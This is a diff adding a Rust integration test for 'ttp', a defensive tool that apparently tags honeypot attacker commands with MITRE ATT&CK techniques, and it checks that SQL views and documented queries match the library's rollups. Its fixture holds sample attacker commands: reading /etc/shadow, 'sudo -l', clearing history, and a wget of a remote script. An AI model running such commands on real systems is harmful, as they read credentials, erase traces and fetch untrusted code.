@@ -1,0 +1,370 @@
+//! The SQL views and ATT&CK tables the migrations create: they equal the
+//! library's rollups (which `ttp query` and `ttp serve` answer from), on
+//! DECNET's database and on ours; every query in `docs/queries.md` runs on
+//! both, and the ones answering the README's questions give the library's
+//! answer.
+
+mod common;
+mod serve_support;
+
+use rusqlite::Connection;
+use std::path::{Path, PathBuf};
+use ttp_engine::query::{Reader, RollupRow, Scope, TagFilter, Window};
+
+type Row = (
+    String,
+    Option<String>,
+    Option<String>,
+    Option<String>,
+    String,
+    i64,
+    String,
+    String,
+    f64,
+    Option<String>,
+);
+
+fn library(rows: Vec<RollupRow>) -> Vec<Row> {
+    rows.into_iter()
+        .map(|r| {
+            (
+                r.technique_id,
+                r.sub_technique_id,
+                r.technique_name,
+                r.sub_technique_name,
+                r.tactic,
+                r.count,
+                r.first_seen,
+                r.last_seen,
+                r.confidence_max,
+                r.mitre_url,
+            )
+        })
+        .collect()
+}
+
+fn view(conn: &Connection, view: &str, key: Option<(&str, &str)>) -> Vec<Row> {
+    let (cond, args): (String, Vec<String>) = match key {
+        Some((col, v)) => (format!("WHERE {col} = ?1"), vec![v.to_string()]),
+        None => (String::new(), vec![]),
+    };
+    let sql = format!(
+        "SELECT technique_id, sub_technique_id, technique_name, sub_technique_name, tactic, count, \
+         first_seen, last_seen, confidence_max, mitre_url FROM {view} {cond} \
+         ORDER BY technique_id, sub_technique_id"
+    );
+    let mut stmt = conn.prepare(&sql).unwrap();
+    stmt.query_map(rusqlite::params_from_iter(args), |r| {
+        Ok((
+            r.get(0)?,
+            r.get(1)?,
+            r.get(2)?,
+            r.get(3)?,
+            r.get(4)?,
+            r.get(5)?,
+            r.get(6)?,
+            r.get(7)?,
+            r.get(8)?,
+            r.get(9)?,
+        ))
+    })
+    .unwrap()
+    .collect::<Result<_, _>>()
+    .unwrap()
+}
+
+fn distinct(conn: &Connection, sql: &str) -> Vec<String> {
+    let mut stmt = conn.prepare(sql).unwrap();
+    stmt.query_map([], |r| r.get(0))
+        .unwrap()
+        .collect::<Result<_, _>>()
+        .unwrap()
+}
+
+/// DECNET's fixture, migrated by opening it as a writer does.
+fn decnet_db(dir: &Path) -> PathBuf {
+    let db = serve_support::fixture_copy(&common::shared(), dir);
+    ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
+    db
+}
+
+/// Our own file, written by `ttp tag`.
+fn own_db(dir: &Path) -> PathBuf {
+    let db = dir.join("own.db");
+    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
+    let events = [
+        r#"{"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
+        r#"{"source_kind":"command","source_id":"2","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"sudo -l"}}"#,
+        r#"{"source_kind":"command","source_id":"3","attacker_uuid":"a2","identity_uuid":"i1","session_id":"s2","payload":{"command_text":"cat /etc/shadow; history -c"}}"#,
+        r#"{"source_kind":"command","source_id":"4","identity_uuid":"i1","payload":{"command_text":"wget http://198.51.100.9/x.sh"}}"#,
+    ];
+    let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_ttp"))
+        .args([
+            "tag",
+            "--rules",
+            rules.to_str().unwrap(),
+            "--db",
+            db.to_str().unwrap(),
+        ])
+        .env("TTP_LOG", "error")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    c.stdin
+        .take()
+        .unwrap()
+        .write_all(events.join("\n").as_bytes())
+        .unwrap();
+    assert!(c.wait().unwrap().success());
+    db
+}
+
+fn check_views(db: &Path) {
+    let conn = Connection::open(db).unwrap();
+    let reader = Reader::open(db).unwrap();
+    let w = Window::default();
+    assert_eq!(
+        view(&conn, "ttp_technique_rollup", None),
+        library(reader.rollup(&Scope::Fleet, &w).unwrap())
+    );
+    let mut checked = 0;
+    for a in distinct(
+        &conn,
+        "SELECT DISTINCT attacker_uuid FROM ttp_tag WHERE attacker_uuid IS NOT NULL",
+    ) {
+        let want = library(reader.rollup(&Scope::Attacker(a.clone()), &w).unwrap());
+        assert_eq!(
+            view(&conn, "ttp_attacker_rollup", Some(("attacker_uuid", &a))),
+            want,
+            "{a}"
+        );
+        checked += 1;
+    }
+    for s in distinct(
+        &conn,
+        "SELECT DISTINCT session_id FROM ttp_tag WHERE session_id IS NOT NULL",
+    ) {
+        let want = library(reader.rollup(&Scope::Session(s.clone()), &w).unwrap());
+        assert_eq!(
+            view(&conn, "ttp_session_rollup", Some(("session_id", &s))),
+            want,
+            "{s}"
+        );
+        checked += 1;
+    }
+    let mut identities = distinct(
+        &conn,
+        "SELECT DISTINCT identity_uuid FROM ttp_tag WHERE identity_uuid IS NOT NULL",
+    );
+    if reader.is_decnet() {
+        identities.extend(distinct(&conn, "SELECT uuid FROM attacker_identities"));
+    }
+    for i in identities {
+        let want = library(reader.rollup(&Scope::Identity(i.clone()), &w).unwrap());
+        assert_eq!(
+            view(&conn, "ttp_identity_rollup", Some(("identity_uuid", &i))),
+            want,
+            "{i}"
+        );
+        checked += 1;
+    }
+    assert!(checked >= 5, "only {checked} scopes checked");
+}
+
+#[test]
+#[cfg_attr(
+    shared_missing,
+    ignore = "../shared is absent: DECNET fixtures not available"
+)]
+fn views_equal_the_library_rollups_on_decnets_database() {
+    let work = tempfile::TempDir::new().unwrap();
+    check_views(&decnet_db(work.path()));
+}
+
+#[test]
+fn views_equal_the_library_rollups_on_our_database() {
+    let work = tempfile::TempDir::new().unwrap();
+    check_views(&own_db(work.path()));
+}
+
+/// The ```sql blocks of docs/queries.md, by their `-- name:` line.
+fn doc_queries() -> Vec<(String, String)> {
+    let doc =
+        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/queries.md"))
+            .unwrap();
+    let mut out = Vec::new();
+    let mut rest = doc.as_str();
+    while let Some(start) = rest.find("```sql\n") {
+        let body = &rest[start + 7..];
+        let end = body.find("```").unwrap();
+        let sql = body[..end].to_string();
+        let name = sql
+            .lines()
+            .next()
+            .and_then(|l| l.strip_prefix("-- name: "))
+            .unwrap_or_else(|| panic!("a query in docs/queries.md without `-- name:`: {sql}"))
+            .to_string();
+        out.push((name, sql));
+        rest = &body[end + 3..];
+    }
+    out
+}
+
+fn run(conn: &Connection, sql: &str) -> Vec<Vec<rusqlite::types::Value>> {
+    let mut stmt = conn.prepare(sql).unwrap_or_else(|e| panic!("{e}: {sql}"));
+    let n = stmt.column_count();
+    stmt.query_map([], |r| (0..n).map(|i| r.get(i)).collect())
+        .unwrap()
+        .collect::<Result<_, _>>()
+        .unwrap()
+}
+
+#[test]
+#[cfg_attr(
+    shared_missing,
+    ignore = "../shared is absent: DECNET fixtures not available"
+)]
+fn the_documented_queries_run_and_answer_as_the_library_does() {
+    use rusqlite::types::Value as V;
+    let work = tempfile::TempDir::new().unwrap();
+    let decnet = decnet_db(work.path());
+    let own = own_db(work.path());
+    let queries = doc_queries();
+    assert!(queries.len() >= 9, "{}", queries.len());
+    for db in [&decnet, &own] {
+        let conn =
+            Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY).unwrap();
+        for (_, sql) in &queries {
+            run(&conn, sql);
+        }
+    }
+    let conn = Connection::open(&decnet).unwrap();
+    let reader = Reader::open(&decnet).unwrap();
+    let q = |name: &str| run(&conn, &queries.iter().find(|(n, _)| n == name).unwrap().1);
+    let text = |v: &V| match v {
+        V::Text(s) => Some(s.clone()),
+        _ => None,
+    };
+
+    // Attacker X: the library's rollup, row for row.
+    let a1 = "a0000000-0000-4000-8000-000000000001".to_string();
+    let want = reader
+        .rollup(&Scope::Attacker(a1.clone()), &Window::default())
+        .unwrap();
+    let got = q("attacker-rollup");
+    assert_eq!(got.len(), want.len());
+    for (g, w) in got.iter().zip(&want) {
+        assert_eq!(text(&g[0]).unwrap(), w.technique_id);
+        assert_eq!(text(&g[1]), w.sub_technique_id);
+        assert_eq!(g[3], V::Integer(w.count));
+        assert_eq!(text(&g[5]).unwrap(), w.last_seen);
+    }
+    // Its evidence: the library's newest 20.
+    let want = reader
+        .tags(&TagFilter {
+            attacker: Some(a1),
+            limit: Some(20),
+            ..TagFilter::default()
+        })
+        .unwrap();
+    let got = q("attacker-evidence");
+    assert_eq!(got.len(), want.len());
+    assert_eq!(text(&got[0][0]).unwrap(), want[0].created_at);
+    // The fleet this week: the library's tags in the same window (our own
+    // file's tags are fresh, so this one is never vacuous).
+    for db in [&decnet, &own] {
+        let conn = Connection::open(db).unwrap();
+        let reader = Reader::open(db).unwrap();
+        let week = Window::parse(Some("7d"), None, None, time::OffsetDateTime::now_utc()).unwrap();
+        let tags = reader
+            .tags(&TagFilter {
+                window: week,
+                ..TagFilter::default()
+            })
+            .unwrap();
+        let mut per_id: std::collections::BTreeMap<String, i64> = Default::default();
+        for t in &tags {
+            *per_id
+                .entry(t.sub_technique_id.clone().unwrap_or(t.technique_id.clone()))
+                .or_default() += 1;
+        }
+        let mut want: Vec<(String, i64)> = per_id.into_iter().collect();
+        want.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
+        want.truncate(10);
+        let sql = &queries.iter().find(|(n, _)| n == "fleet-week").unwrap().1;
+        let got: Vec<(String, i64)> = run(&conn, sql)
+            .iter()
+            .map(|r| {
+                (
+                    text(&r[0]).unwrap(),
+                    match r[2] {
+                        V::Integer(n) => n,
+                        _ => -1,
+                    },
+                )
+            })
+            .collect();
+        assert_eq!(got, want);
+        if db == &own {
+            assert!(got.len() >= 3, "{got:?}");
+        }
+    }
+    // The fleet rollup view is the library's.
+    assert_eq!(
+        q("fleet-rollup").len(),
+        reader
+            .rollup(&Scope::Fleet, &Window::default())
+            .unwrap()
+            .len()
+    );
+    // Names.
+    let names = q("names");
+    assert_eq!(names.len(), 3);
+    assert!(names
+        .iter()
+        .any(|r| text(&r[2]).as_deref() == Some("Brute Force: Password Guessing")));
+}
+
+/// A file written by an older build (schema version 3) gains the views in
+/// place, its tags untouched.
+#[test]
+fn an_older_file_is_migrated_in_place() {
+    let work = tempfile::TempDir::new().unwrap();
+    let db = own_db(work.path());
+    {
+        let c = Connection::open(&db).unwrap();
+        c.execute_batch(
+            "DROP VIEW ttp_tag_named; DROP VIEW ttp_technique_rollup; DROP VIEW ttp_attacker_rollup; \
+             DROP VIEW ttp_session_rollup; DROP VIEW ttp_identity_rollup; DROP TABLE ttp_attack_release; \
+             DROP TABLE ttp_attack_tactic; DROP TABLE ttp_attack_technique; PRAGMA user_version = 3;",
+        )
+        .unwrap();
+    }
+    let before: i64 = Connection::open(&db)
+        .unwrap()
+        .query_row("SELECT count(*) FROM ttp_tag", [], |r| r.get(0))
+        .unwrap();
+    ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
+    let c = Connection::open(&db).unwrap();
+    let v: i64 = c
+        .query_row("PRAGMA user_version", [], |r| r.get(0))
+        .unwrap();
+    assert_eq!(v, ttp_engine::store::SCHEMA_VERSION);
+    let after: i64 = c
+        .query_row("SELECT count(*) FROM ttp_tag_named", [], |r| r.get(0))
+        .unwrap();
+    assert_eq!(before, after);
+    check_views(&db);
+    // A stale ATT&CK release is replaced on the next open.
+    c.execute_batch("UPDATE ttp_attack_release SET release = 'enterprise-attack-v1'; DELETE FROM ttp_attack_technique")
+        .unwrap();
+    ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
+    let n: i64 = c
+        .query_row("SELECT count(*) FROM ttp_attack_technique", [], |r| {
+            r.get(0)
+        })
+        .unwrap();
+    assert!(n > 800, "{n}");
+}
